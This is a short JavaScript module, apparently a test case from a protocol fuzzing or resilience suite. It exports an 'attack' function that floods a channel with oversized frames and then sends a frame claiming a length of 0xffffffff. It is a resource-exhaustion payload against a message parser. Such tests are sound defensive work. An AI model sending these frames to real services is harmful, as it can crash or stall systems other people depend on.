exports.attack = async () => {
  const fd = lib.channel();
  const piece = Buffer.alloc(1 << 16, 0x20);
  // More follows, and more, past what a message of this kind may have.
  for (let n = 0; n < 40; n++) lib.writeAll(fd, lib.frame({ kind: 5, flags: 1, payload: piece }));
  lib.writeAll(fd, lib.frame({ length: 0xffff_ffff, kind: 2 }));
  await lib.sleep(10_000);
};
